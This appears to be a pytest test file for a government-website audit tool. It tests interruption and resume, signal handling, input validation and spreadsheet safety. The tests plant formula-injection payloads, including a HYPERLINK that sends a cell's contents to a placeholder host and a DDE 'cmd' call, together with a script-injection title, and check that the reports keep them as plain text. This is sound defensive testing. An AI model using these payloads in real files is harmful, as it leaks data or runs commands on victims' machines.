"""Run safety (issue #14 b): kill -9 and ``--resume``, SIGINT/SIGTERM, input checked before the
crawl, formula-safe spreadsheets.

The kill/resume and signal tests run the real console script against a slow loopback site (each
page answer waits, so an audit takes seconds and can be hit mid-way); everything else is
in-process. Server hits are counted per path for the crawler's own requests (Scrapy's ``Accept``
header), so "no stored page fetched again" is measured, not assumed.
"""

from __future__ import annotations

import json
import os
import signal
import sqlite3
import subprocess
import threading
import time
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from auditor.demo.servers import Request, Site
from tests.support.servers import closed_port, govaudit_executable, run_cli, serve

AS_OF = "2025-06-01"
PAGE_DELAY = 0.2
COLUMNS, ARTICLES = 4, 7
# links: dead links, columns, identity and documents over stored pages; text (the cloaking probe)
# gives the measure stage seconds of work on this slow site, so a kill can land there too
FAMILIES = "links,columns,identity,documents,text"


class SlowSite:
    """A county-portal-shaped site whose every answer waits ``PAGE_DELAY``; counts the crawler's hits."""

    def __init__(self, hostile: bool = False) -> None:
        self.site = Site("slow")
        self.hits: Counter[str] = Counter()
        self.lock = threading.Lock()
        cols = "".join(f"<li><a href='/col{i}/index.html'>栏目{i}</a></li>" for i in range(COLUMNS))
        self._page("/", "某某县人民政府", f"<ul>{cols}</ul><a href='/missing-home.html'>失效</a>")
        for i in range(COLUMNS):
            items = "".join(f"<li><a href='/col{i}/a{j}.html'>文章{i}-{j}</a> 2025-05-{j + 1:02d}</li>" for j in range(ARTICLES))
            self._page(f"/col{i}/index.html", f"栏目{i}", f"<ul>{items}</ul>", column=f"栏目{i}")
            for j in range(ARTICLES):
                self._page(f"/col{i}/a{j}.html", f"关于第{i}-{j}项工作的通知",
                           f"<p>正文{i}{j}。</p><a href='/'>首页</a><a href='/missing-{i}-{j}.html'>附件</a>",
                           column=("=HYPERLINK(\"http://x/?d=\"&A2,\"x\")" if hostile and j == 0 else f"栏目{i}"))
        self.site.fallback(self._missing)

    def _page(self, path: str, title: str, body: str, column: str = "首页") -> None:
        html = (f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title>"
                f"<meta name='ColumnName' content='{column.replace(chr(39), '&#39;')}'>"
                f"<meta name='SiteName' content='某某县人民政府'></head><body><h1>{title}</h1>{body}</body></html>")
        data = html.encode("utf-8")

        def answer(req: Request) -> tuple[int, dict[str, str], bytes]:
            self._count(req)
            time.sleep(PAGE_DELAY)
            return 200, {"Content-Type": "text/html; charset=utf-8"}, data

        self.site.handler(path, answer)

    def _missing(self, req: Request) -> tuple[int, dict[str, str], str]:
        self._count(req)
        time.sleep(PAGE_DELAY / 2)
        return 404, {"Content-Type": "text/html; charset=utf-8"}, "<html><head><title>404</title></head><body>404 Not Found</body></html>"

    def _count(self, req: Request) -> None:
        if req.headers.get("accept", "").startswith("text/html,application/xhtml+xml"):  # Scrapy's, not a probe's
            with self.lock:
                self.hits[req.path] += 1

    def take_hits(self) -> Counter[str]:
        with self.lock:
            hits, self.hits = self.hits, Counter()
        return hits


def _start(url: str, db: Path, out: Path, *extra: str) -> subprocess.Popen[str]:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "NO_COLOR": "1", "COLUMNS": "160", "TERM": "dumb"}
    return subprocess.Popen([str(govaudit_executable()), "check", url, "--db", str(db), "--out", str(out), "--as-of", AS_OF,
                             "--checks", FAMILIES, "--concurrency", "2", "--timeout", "5", *extra],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, encoding="utf-8", env=env)


def _query(db: Path, sql: str) -> list[tuple[Any, ...]]:
    if not db.exists():
        return []
    try:
        with sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=5) as c:
            return c.execute(sql).fetchall()
    except sqlite3.OperationalError:
        return []


def _wait_for(proc: subprocess.Popen[str], cond: Any, timeout: float = 120) -> None:
    end = time.time() + timeout
    while time.time() < end:
        if cond():
            return
        if proc.poll() is not None:
            pytest.fail(f"the audit ended (rc {proc.returncode}) before the point of interruption: {proc.stderr.read()[-2000:]}")
        time.sleep(0.02)
    proc.kill()
    pytest.fail("the point of interruption was never reached")


def _stored_pages(db: Path) -> int:
    rows = _query(db, "select count(*) from pages")
    return rows[0][0] if rows else 0


def _crawl_done(db: Path) -> bool:
    rows = _query(db, "select stats from runs where status = 'running'")
    return bool(rows) and rows[0][0] is not None and "crawl_seconds" in rows[0][0]


def _findings(report: Path) -> list[tuple[str, str]]:
    data = json.loads(report.read_text("utf-8"))
    return sorted((f["id"], f["rule"]) for f in data["findings"])


def _stored_page_paths(db: Path) -> set[str]:
    from urllib.parse import urlsplit

    return {urlsplit(r[0]).path or "/" for r in _query(db, "select url from pages")}


@pytest.fixture(scope="module")
def slow() -> Any:
    s = SlowSite()
    with serve(s.site) as running:
        yield s, running


@pytest.fixture(scope="module")
def reference(slow: Any, tmp_path_factory: Any) -> dict[str, Any]:
    """One audit of the slow site, never interrupted: what every resumed run must end with."""

    site, running = slow
    tmp = tmp_path_factory.mktemp("ref")
    site.take_hits()
    ref = run_cli("check", running.url("/"), "--db", tmp / "ref.sqlite", "--out", tmp / "ref", "--as-of", AS_OF,
                  "--checks", FAMILIES, "--concurrency", "2", "--timeout", "5")
    assert ref.returncode in (0, 1), ref.stderr
    ref_hits = site.take_hits()
    expected = _findings(tmp / "ref" / "report.json")
    assert expected and any(rule == "links.dead" for _, rule in expected)
    assert max(ref_hits.values()) == 1  # each URL fetched once by the crawl
    return {"returncode": ref.returncode, "findings": expected,
            "report": json.loads((tmp / "ref" / "report.json").read_text("utf-8"))}


def test_kill_9_in_the_crawl_and_in_the_checks_then_resume_gives_the_uninterrupted_findings(
        slow: Any, reference: dict[str, Any], tmp_path: Path) -> None:
    site, running = slow
    url = running.url("/")
    expected = reference["findings"]

    db, out = tmp_path / "run.sqlite", tmp_path / "run"
    # 1. kill -9 during the crawl, after some pages were stored
    proc = _start(url, db, out)
    line = proc.stderr.readline()  # the run id comes first, before any work
    run_id = line.strip().split("：")[-1].split(": ")[-1]
    assert run_id and _query(db, f"select status from runs where id = '{run_id}'") == [("running",)]
    _wait_for(proc, lambda: _stored_pages(db) >= 5)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    stored = _stored_page_paths(db)
    total = 1 + COLUMNS * (ARTICLES + 1)
    assert 5 <= len(stored) < total, "the kill must land mid-crawl"
    assert not (out / "report.json").exists()

    # the next command that opens the store marks the dead run, in the row
    listed = run_cli("recheck", run_id, "--db", db, "--out", tmp_path / "re1", "--as-of", AS_OF)
    assert _query(db, f"select status from runs where id = '{run_id}'") == [("interrupted",)]
    assert listed.returncode == 4, listed.stdout + listed.stderr  # 无法判定, not a verdict
    re1 = json.loads((tmp_path / "re1" / "report.json").read_text("utf-8"))
    assert re1["score"]["verdict_zh"].startswith("无法判定") and not re1["score"]["passed"]

    # 2. resume, and kill -9 again once the crawl is over (measure / checks)
    site.take_hits()
    proc = _start(url, db, out, "--resume", run_id)
    assert run_id in proc.stderr.readline()
    _wait_for(proc, lambda: _crawl_done(db))
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    hits = site.take_hits()
    refetched = {p for p in stored if hits.get(p)}
    assert not refetched, f"stored pages fetched again: {sorted(refetched)}"
    assert not (out / "report.json").exists()
    stored = _stored_page_paths(db)
    assert len(stored) == total

    # 3. resume to the end: nothing crawled again, the same findings as the uninterrupted audit
    done = run_cli("check", url, "--db", db, "--out", out, "--as-of", AS_OF, "--checks", FAMILIES,
                   "--concurrency", "2", "--timeout", "5", "--resume")
    assert done.returncode == reference["returncode"], done.stderr
    hits = site.take_hits()
    assert not {p for p in stored if hits.get(p)}
    assert _findings(out / "report.json") == expected
    report = json.loads((out / "report.json").read_text("utf-8"))
    assert report["run_id"] == run_id and report["status"] == "complete"
    assert report["coverage"]["pages_fetched"] == reference["report"]["coverage"]["pages_fetched"]
    # the journal says nothing is left, and no page row is duplicated
    assert _query(db, f"select count(*), count(distinct url) from pages where run_id = '{run_id}'")[0] == (total, total)


@pytest.mark.parametrize(("sig", "code", "when"), [(signal.SIGTERM, 143, "crawl"), (signal.SIGINT, 130, "measure")])
def test_a_signal_stops_the_audit_with_a_partial_report_marked_interrupted(slow: Any, tmp_path: Path, sig: int, code: int,
                                                                            when: str) -> None:
    site, running = slow
    db, out = tmp_path / "s.sqlite", tmp_path / "out"
    proc = _start(running.url("/"), db, out)
    run_id = proc.stderr.readline().strip().split("：")[-1]
    site.take_hits()
    if when == "crawl":
        _wait_for(proc, lambda: sum(site.hits.values()) >= 6)
    else:
        _wait_for(proc, lambda: _crawl_done(db))
    started = time.time()
    proc.send_signal(sig)
    at_signal = sum(site.hits.values())
    _, stderr = proc.communicate(timeout=60)
    assert time.time() - started < 20
    if when == "crawl":  # the crawl stopped: only what was in flight was still answered
        assert sum(site.take_hits().values()) <= at_signal + 4
    assert proc.returncode == code, stderr
    assert "Traceback" not in stderr
    report = json.loads((out / "report.json").read_text("utf-8"))
    assert report["status"] == "interrupted" and report["run_id"] == run_id
    assert report["coverage"]["interrupted"]["signal"] == signal.Signals(sig).name
    assert report["coverage"]["interrupted"]["stage"] in (("crawl",) if when == "crawl" else ("measure", "checks"))
    assert report["score"]["verdict_zh"].startswith("无法判定") and not report["score"]["passed"]
    html = (out / "report.html").read_text("utf-8")
    assert "中断" in html
    assert _query(db, f"select status from runs where id = '{run_id}'") == [("interrupted",)]
    if when == "crawl":
        assert len(_stored_page_paths(db)) < 1 + COLUMNS * (ARTICLES + 1)


@pytest.mark.parametrize(("sig", "code"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_a_signal_mid_crawl_then_resume_gives_the_uninterrupted_findings_without_refetching(
        slow: Any, reference: dict[str, Any], tmp_path: Path, sig: int, code: int) -> None:
    """The graceful stop (the journal written from the signal handler, in-flight answers stored)
    must leave a frontier as exact as a kill -9 does: ``--resume RUN_ID`` ends with the findings
    of the uninterrupted audit, and the server sees no stored page asked for again."""

    site, running = slow
    url = running.url("/")
    db, out = tmp_path / "s.sqlite", tmp_path / "out"
    site.take_hits()
    proc = _start(url, db, out)
    run_id = proc.stderr.readline().strip().split("：")[-1].split(": ")[-1]
    # by the server's count: stored pages trail the answers by a commit interval or more
    _wait_for(proc, lambda: sum(site.hits.values()) >= 8)
    proc.send_signal(sig)
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == code and "Traceback" not in stderr, stderr
    first = site.take_hits()
    stored = _stored_page_paths(db)
    total = 1 + COLUMNS * (ARTICLES + 1)
    assert 3 <= len(stored) < total, "the signal must land mid-crawl"
    assert json.loads((out / "report.json").read_text("utf-8"))["status"] == "interrupted"
    assert _query(db, f"select status from runs where id = '{run_id}'") == [("interrupted",)]

    done = run_cli("check", url, "--db", db, "--out", out, "--as-of", AS_OF, "--checks", FAMILIES,
                   "--concurrency", "2", "--timeout", "5", "--resume", run_id)
    assert done.returncode == reference["returncode"], done.stderr
    hits = site.take_hits()
    refetched = {p for p in stored if hits.get(p)}
    assert not refetched, f"stored pages fetched again: {sorted(refetched)}"
    both = {p: n for p, n in (first + hits).items() if p != "/robots.txt"}  # each process reads robots.txt
    assert all(n == 1 for n in both.values()), both  # over both runs, every URL once: in-flight answers were kept
    assert _findings(out / "report.json") == reference["findings"]
    report = json.loads((out / "report.json").read_text("utf-8"))
    assert report["run_id"] == run_id and report["status"] == "complete"
    assert report["coverage"]["pages_fetched"] == reference["report"]["coverage"]["pages_fetched"]
    assert _query(db, f"select status from runs where id = '{run_id}'") == [("complete",)]
    assert _query(db, f"select count(*), count(distinct url) from pages where run_id = '{run_id}'")[0] == (total, total)


class BrowserSite:
    """Thirteen pages for the a11y/适老化 probes; after the crawl every answer is slowed
    (``slow_down``), so a signal lands while Chromium is mid-navigation or running axe."""

    def __init__(self) -> None:
        from tests.sites.a11y_fixture import page_html

        self.delay = 0.0
        self.site = Site("browser-signal")
        paths = ["/"] + [f"/p{i}.html" for i in range(12)]
        links = "".join(f"<p><a href='{p}'>栏目{p}</a></p>" for p in paths)
        for path in paths:
            body = page_html(f"页面{path}", links, planted=False)
            self.site.handler(path, lambda req, body=body: (time.sleep(self.delay), (200, {"Content-Type": "text/html; charset=utf-8"}, body))[1])


def _descendants(root: int) -> list[tuple[int, str]]:
    """(pid, name) of every process below ``root`` (Playwright starts Chromium in its own process
    group, so a group listing would miss it)."""

    children: dict[int, list[tuple[int, str]]] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue
        name, rest = stat.split("(", 1)[1].rsplit(")", 1)
        children.setdefault(int(rest.split()[1]), []).append((int(entry), name))
    found, todo = [], [root]
    while todo:
        for pid, name in children.get(todo.pop(), []):
            found.append((pid, name))
            todo.append(pid)
    return found


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="Debian chromium not installed")
@pytest.mark.parametrize(("sig", "code", "group"), [(signal.SIGINT, 130, False), (signal.SIGTERM, 143, True)])
def test_a_signal_while_chromium_measures_stops_within_seconds(tmp_path: Path, sig: int, code: int, group: bool) -> None:
    """The measure stage with real Chromium (a11y + 适老化 probes) on pages that answer slowly:
    SIGINT to the process (or SIGTERM to its process group, as systemd stops a unit) ends the
    audit within a few seconds — partial report, no traceback, no Chromium process left behind.
    (Measured on this fixture: 0.8–2.8 s from the signal to the exit, report writing included.)"""

    from tests.sites.a11y_fixture import HOST

    fixture = BrowserSite()
    db, out = tmp_path / "b.sqlite", tmp_path / "out"
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "NO_COLOR": "1", "COLUMNS": "160", "TERM": "dumb"}
    with serve(fixture.site) as running:
        proc = subprocess.Popen([str(govaudit_executable()), "check", f"http://{HOST}:{running.port}/", "--db", str(db),
                                 "--out", str(out), "--as-of", AS_OF, "--resolve", f"{HOST}=127.0.0.1", "--checks", "a11y",
                                 "--checks", "elderly", "--a11y", "all", "--timeout", "5"],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, encoding="utf-8", env=env,
                                start_new_session=True)
        try:
            _wait_for(proc, lambda: _crawl_done(db))
            fixture.delay = 8.0  # every page the browser opens now takes 8 s to answer
            _wait_for(proc, lambda: any(name.startswith("chrom") for _, name in _descendants(proc.pid)))
            time.sleep(1.5)  # tabs are navigating
            browser = [pid for pid, name in _descendants(proc.pid) if name.startswith("chrom")]
            assert browser and proc.poll() is None
            started = time.monotonic()
            os.killpg(proc.pid, sig) if group else proc.send_signal(sig)
            _, stderr = proc.communicate(timeout=60)
            took = time.monotonic() - started
        finally:
            if proc.poll() is None:
                proc.kill()
            fixture.delay = 0.0
    assert proc.returncode == code, stderr
    assert took < 5.0, f"{took:.1f} s from the signal to the exit"
    assert "Traceback" not in stderr
    time.sleep(1.0)
    assert not [pid for pid in browser if _alive(pid)], "Chromium outlived the audit"
    report = json.loads((out / "report.json").read_text("utf-8"))
    assert report["status"] == "interrupted" and report["coverage"]["interrupted"]["stage"] == "measure"
    assert report["coverage"]["interrupted"]["signal"] == signal.Signals(sig).name
    assert report["score"]["verdict_zh"].startswith("无法判定")


# --- input checked before any network work ------------------------------------------------

def _bad_inputs(tmp: Path) -> list[tuple[str, list[str], str, str]]:
    """(option, extra args, Chinese fragment, English fragment); the README table lists the same."""

    a_file = tmp / "file.txt"
    a_file.write_text("x")
    not_sqlite = tmp / "notes.sqlite"
    not_sqlite.write_text("this is not a database")
    (tmp / "conf.d").mkdir(exist_ok=True)
    return [
        ("--out", ["--out", str(a_file / "sub")], "路径位于文件之下", "under a file"),
        ("--out", ["--out", "/proc/govaudit-test"], "不可写", "not writable"),
        ("--db", ["--db", str(tmp)], "是目录", "is a directory"),
        ("--db", ["--db", str(a_file / "x.sqlite")], "路径位于文件之下", "under a file"),
        ("--db", ["--db", str(not_sqlite)], "不是 SQLite 数据库文件", "not a SQLite database"),
        ("--db", ["--db", "nosuchdialect://u@h/db"], "数据库地址无效", "invalid database URL"),
        ("--checks", ["--checks", "nosuchfamily"], "未知规则族", "unknown rule family"),
        ("--skip", ["--skip", "links,nosuch"], "未知规则族", "unknown rule family"),
        ("--format", ["--format", "pdff"], "未知报告格式", "unknown report format"),
        ("--config", ["--config", str(tmp / "conf.d")], "不是文件", "not a file"),
        ("--config", ["--config", str(tmp / "none.toml")], "配置文件不存在", "config file not found"),
        ("--as-of", ["--as-of", "2025-13-45"], "需要日期", "expects a date"),
        ("URL", ["--url-port", "99999"], "网址无效", "invalid URL"),
        ("--resume", ["--db", str(_complete_run(tmp)), "--resume", "20250101-000000-abcdef"], "只能继续被中断的运行",
         "only interrupted runs resume"),
    ]


def _complete_run(tmp: Path) -> Path:
    from auditor.store.database import EvidenceStore

    db = tmp / "done.sqlite"
    store = EvidenceStore(db)
    with store.engine.begin() as conn:
        from auditor.store.database import runs

        conn.execute(runs.insert().values(id="20250101-000000-abcdef", site="127.0.0.1", start_url="http://127.0.0.1/",
                                          as_of=AS_OF, status="complete", options={}, started_at=time.time()))
    store.close()
    return db


@pytest.mark.parametrize("case", range(14))
def test_bad_input_is_exit_2_naming_the_option_before_any_request(case: int, tmp_path: Path) -> None:
    hits: list[str] = []
    site = Site("probe")
    site.fallback(lambda req: (hits.append(req.path), (200, {}, "<html></html>"))[1])
    option, extra, zh, en = _bad_inputs(tmp_path)[case]
    with serve(site) as running:
        url = running.url("/")
        if extra[0] == "--url-port":
            url, extra = f"http://127.0.0.1:{extra[1]}/", []
        args = ["check", url, "--as-of", AS_OF, *extra]
        if "--db" not in extra:
            args += ["--db", str(tmp_path / "ok.sqlite")]
        if "--out" not in extra:
            args += ["--out", str(tmp_path / "out")]
        if option == "--as-of":
            args.remove(AS_OF)
            args.remove("--as-of")
        for lang, fragment in (("zh", zh), ("en", en)):
            r = run_cli(*args, "--lang", lang, timeout=60)
            text = r.stdout + r.stderr
            assert r.returncode == 2, text
            assert option in text and fragment in text, text
            assert "Traceback" not in text
    assert hits == []  # nothing was fetched


def test_db_url_with_an_absolute_sqlite_path_lands_at_that_path(tmp_path: Path) -> None:
    from auditor.cli.validate import check_db, sqlite_path

    target = tmp_path / "abs" / "audits.sqlite"
    (tmp_path / "abs").mkdir()
    url = f"sqlite:///{target}"  # sqlite:////tmp/... : four slashes for an absolute path
    assert url.startswith("sqlite:////")
    assert sqlite_path(url) == target
    check_db(url)
    from auditor.store.database import EvidenceStore

    EvidenceStore(url).close()
    assert target.exists()
    assert not Path("sqlite:").exists()


def test_an_unreachable_homepage_writes_a_report_with_the_finding_and_exits_3(tmp_path: Path) -> None:
    port = closed_port()
    db = tmp_path / "abs" / "u.sqlite"
    r = run_cli("check", f"http://127.0.0.1:{port}/", "--as-of", AS_OF, "--db", f"sqlite:///{db}",  # sqlite:////tmp/…
                "--out", tmp_path / "out", "--timeout", "2", timeout=120, cwd=tmp_path)
    assert db.exists() and not (tmp_path / "sqlite:").exists()  # the URL's absolute path, not ./sqlite:/…
    text = r.stdout + r.stderr
    assert r.returncode == 3, text
    assert "Traceback" not in text and len(r.stderr.splitlines()) < 8, r.stderr
    report = json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))
    found = {f["rule"]: f for f in report["findings"]}
    assert set(found) <= {"availability.homepage_unreachable", "availability.undecided"}  # nothing judged on no pages
    assert "站点无法访问" in found["availability.homepage_unreachable"]["rule_name"]
    assert "refused" in found["availability.homepage_unreachable"]["message"]
    assert report["status"] == "failed" and report["score"]["verdict_zh"].startswith("无法判定")


# --- spreadsheets never carry a formula -----------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x/?d="&A2,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


def _report_with(text: str) -> dict[str, Any]:
    finding = {"id": text, "rule": text, "rule_name": text, "severity": text, "deduction": 0.5, "indicator": text,
               "indicator_name": text, "url": text, "source_url": text, "column": text, "message": text,
               "basis": {"zh": text, "source": text, "status": text}, "remediation": text, "evidence": {"pages": [text]}}
    score = {"verdict_zh": text, "verdict_en": text, "score": 99.0, "pass_line": 60.0, "veto_items": [
        {"state": "triggered", "name_zh": text, "name_en": text}], "explanation_zh": [text], "explanation_en": [text]}
    return {"lang": "zh", "findings": [finding], "site": {"url": text}, "as_of": text, "status": text, "score": score,
            "rule_pack": {"id": text, "version": text}, "run_id": text}


@pytest.mark.parametrize("text", HOSTILE)
def test_no_xlsx_cell_is_a_formula_whatever_the_text(text: str, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from auditor.reports.writers import XlsxWriter

    path = XlsxWriter().write(_report_with(text), tmp_path)
    wb = load_workbook(path)
    strings = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and text.strip("\t\r") in cell.value:
                    strings += 1
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    assert strings >= 10  # the trap: the hostile text really reached the cells


def test_crawled_column_names_and_titles_stay_text_in_xlsx_and_html(tmp_path: Path) -> None:
    """A page whose ColumnName meta is a formula and whose title is a script. (Through the CLI:
    the crawl's Twisted reactor cannot run twice in one process, and other tests crawl in process.)"""


    from openpyxl import load_workbook

    site = Site("hostile")
    site.page("/", "<html><head><meta charset='utf-8'><title>首页</title></head><body>"
                   "<a href='/a.html'>=cmd|' /C calc'!A0</a></body></html>")
    site.page("/a.html", "<html><head><meta charset='utf-8'><title>&lt;script&gt;alert(1)&lt;/script&gt;</title>"
                         "<meta name='ColumnName' content='=HYPERLINK(\"http://x/?d=\"&amp;A2,\"x\")'></head>"
                         "<body><h1>标题</h1><p>正文</p><a href='/gone.html'>=HYPERLINK(\"http://x/?d=\"&amp;A2,\"x\")</a>"
                         "<a href='/gone2.html'>&lt;script&gt;alert(1)&lt;/script&gt;</a></body></html>")
    with serve(site) as running:
        run_cli("check", running.url("/"), "--db", str(tmp_path / "h.sqlite"), "--out", str(tmp_path / "out"),
                "--as-of", AS_OF, "--checks", "links", "--timeout", "5", timeout=120)
    assert json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))["findings"]
    wb = load_workbook(tmp_path / "out" / "report.xlsx")
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                texts.append(str(cell.value))
    assert any("HYPERLINK" in t for t in texts), "the trap: the crawled anchor text must reach a cell"
    html = (tmp_path / "out" / "report.html").read_text("utf-8")
    assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)" in html


# --- an a11y verdict on a few pages is said to be incomplete ---------------------------------

@pytest.mark.parametrize(("failed", "audited", "expected"), [(3, 1, True), (1, 3, False), (2, 2, False)])
def test_browser_errors_on_most_sampled_pages_make_the_a11y_verdict_incomplete(tmp_path: Path, failed: int, audited: int,
                                                                             expected: bool) -> None:
    """Pure: the ``a11y.run`` measurement as the probe writes it, judged by the a11y check."""

    from auditor.config import AuditConfig
    from auditor.context import CheckContext, SiteView
    from auditor.engine import Engine, run_checks
    from auditor.store.database import EvidenceStore

    store = EvidenceStore(tmp_path / "a.sqlite")
    url = "http://www.example.gov.cn/"
    run_id = store.start_run("www.example.gov.cn", url, AS_OF, {}, "test")
    data = {"engine": "axe-core", "version": "4.10.0", "pages_audited": audited, "pages_failed": failed,
            "failed": [{"url": f"{url}p{i}.html", "kind": "timeout", "error": "Timeout 30000ms"} for i in range(failed)]}
    store.add_record(run_id, "www.example.gov.cn", "probe.a11y.run", "site",
                     {"measurement": 1, "version": 1, "plugin": "a11y-probe", "data": data})
    store.flush()
    cfg = AuditConfig(as_of=AS_OF, url=url, checks=["a11y"], out=str(tmp_path / "out"))
    engine = Engine(cfg)
    site = SiteView(store, store.get_run(run_id))
    ctx = CheckContext(cfg, engine.pack, engine.rules, store, run_id, {}, site.homepage_url)
    run_checks(engine, ctx, site)
    found = [f for f in store.iter_findings(run_id) if f.rule == "a11y.incomplete"]
    assert bool(found) is expected
    if expected:
        assert found[0].evidence["pages_failed"] == failed and "不完整" in found[0].message_zh


def test_an_unexpected_error_is_one_line_naming_the_log_with_the_traceback(tmp_path: Path, monkeypatch: Any,
                                                                         capsys: Any) -> None:
    from auditor.cli import main as cli_main

    def boom() -> None:
        raise RuntimeError("something nobody expected")

    monkeypatch.setattr(cli_main, "app", boom)
    monkeypatch.setattr("sys.argv", ["govaudit", "check", "http://127.0.0.1:1/", "--db", str(tmp_path / "s" / "a.sqlite")])
    with pytest.raises(SystemExit) as exit_info:
        cli_main.main()
    assert exit_info.value.code == 3
    err = capsys.readouterr().err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    logs = list((tmp_path / "s" / "logs").glob("govaudit-*.log"))
    assert len(logs) == 1 and str(logs[0]) in err.replace("\n", "")
    assert "Traceback" in logs[0].read_text("utf-8") and "something nobody expected" in logs[0].read_text("utf-8")


def test_the_frontier_is_pending_minus_done_plus_pages_never_requested(tmp_path: Path) -> None:
    """Store level: a page cut by the budget (checked instead) is not queued again; answered requests are gone."""

    from auditor.store.database import EvidenceStore
    from auditor.store.journal import crawl_journal, load_frontier

    store = EvidenceStore(tmp_path / "j.sqlite")
    run_id = store.start_run("h", "http://h/", AS_OF, {}, "t")

    def row(state: str, url: str, purpose: str = "page", method: str = "GET", depth: int | None = 1, **flags: Any) -> None:
        store.add_row(crawl_journal, {"run_id": run_id, "state": state, "url": url, "purpose": purpose, "method": method,
                                      "depth": depth, "flags": flags, "at": 0.0})

    row("pending", "http://h/", depth=0)
    row("done", "http://h/", depth=0)
    for u in ("http://h/a", "http://h/b", "http://h/c"):
        row("queued", u)
    row("pending", "http://h/a")  # promoted to level 1
    row("pending", "http://h/b", purpose="check", ga_skip="max_pages")  # cut by the budget, checked
    row("pending", "http://h/x.pdf", purpose="attachment")
    row("done", "http://h/x.pdf", purpose="attachment")
    row("pending", "http://h/a")  # sent again by an earlier resume: one request, not two
    store.flush()
    fr = load_frontier(store, run_id)
    assert [(r["url"], r["purpose"]) for r in fr.pending] == [("http://h/a", "page"), ("http://h/b", "check")]
    assert fr.pending[1]["flags"] == {"ga_skip": "max_pages"}
    assert [r["url"] for r in fr.queued] == ["http://h/c"]
    assert fr.pages_scheduled == 2 and fr.pages_fetched == 1 and fr.level == 1
    assert {"http://h/", "http://h/a", "http://h/b", "http://h/c", "http://h/x.pdf"} <= fr.seen


# --- an item group is never split by a commit ------------------------------------------------

def test_a_page_with_5000_links_is_committed_whole_with_its_journal_row(tmp_path: Path, monkeypatch: Any) -> None:
    """In process, the pipeline fed as Scrapy feeds it: 1 + 5,000 + 1 rows in one group, commits
    every 50 rows. Every transaction that reaches the database is recorded; the page, its 5,000
    edges and its ``done`` row must share one. (The store's own flush at 2,000 rows of a table
    used to commit the page with 2,000 of its links, without the ``done`` row.)"""

    from types import SimpleNamespace

    from auditor.crawl import pipeline as pl
    from auditor.crawl.journal import CrawlJournal, group
    from auditor.model import FetchRecord, LinkEdge
    from auditor.store.database import EvidenceStore
    from tests.support.pipeline import bare_pipeline

    store = EvidenceStore(tmp_path / "g.sqlite")
    run_id = store.start_run("h", "http://h/", AS_OF, {}, "t")
    transactions: list[dict[str, int]] = []
    real_write = store._write

    def recording_write(pending: dict[str, list[dict[str, Any]]]) -> None:
        real_write(pending)
        transactions.append({name: len(rows) for name, rows in pending.items()})

    monkeypatch.setattr(store, "_write", recording_write)
    pipe = bare_pipeline(monkeypatch, store, run_id, rows=50, seconds=3600, threaded=False)
    pipe.open_spider()
    journal = CrawlJournal()

    def page(url: str, n_links: int) -> None:
        request = SimpleNamespace(url=url, method="GET", meta={"ga_purpose": "page", "ga_depth": 1})
        journal.fetched(url, request)
        items = [pl.FetchItem(FetchRecord(url, "page", status=200)),
                 pl.PageItem(url, url, 200, "text/html", "utf-8", 1, "t", "html", b"<html></html>"),
                 pl.LinksItem(url, [LinkEdge(url, f"http://h/t{i}.html", position=i) for i in range(n_links)])]
        for g in group(items, journal):
            pipe.process_item(g)

    for i in range(6):
        page(f"http://h/small{i}.html", 20)
    page("http://h/big.html", 5000)
    for i in range(3):
        page(f"http://h/after{i}.html", 20)
    pipe.close_spider()

    assert len(transactions) >= 4, transactions  # the trap for "commit only at the end": small groups commit as they go
    big = [t for t in transactions if t.get("links", 0) >= 5000]
    assert len(big) == 1 and big[0]["pages"] >= 1 and big[0]["crawl_journal"] >= 1, transactions
    assert big[0]["links"] == 5000 + 20 * (big[0]["pages"] - 1)  # whole groups only, the big one included
    for t in transactions:  # every transaction holds whole groups: as many pages as done rows, 22 rows each
        assert t.get("pages", 0) == t.get("crawl_journal", 0) == t.get("fetches", 0), transactions
    assert sum(t.get("links", 0) for t in transactions) == 5000 + 9 * 20
    assert store.BATCH == EvidenceStore.BATCH  # later stages buffer as before
    store.close()


def test_a_whole_level_of_pending_rows_leaves_in_chunks_after_its_group(tmp_path: Path, monkeypatch) -> None:
    """A level barrier requests thousands of pages in one callback. Their ``pending`` rows follow
    that callback's group in groups of ``PENDING_CHUNK``, in order, so they are never one huge
    batch; the group's own rows (its fetch and ``done`` row) stay together in the first."""

    from types import SimpleNamespace

    from auditor.crawl import journal as jr
    from auditor.crawl import pipeline as pl
    from auditor.model import FetchRecord
    from auditor.store.database import EvidenceStore
    from tests.support.pipeline import bare_pipeline

    journal = jr.CrawlJournal()
    done = SimpleNamespace(url="http://h/last.html", method="GET", meta={"ga_purpose": "page", "ga_depth": 1})
    journal.fetched(done.url, done)
    for i in range(12_000):
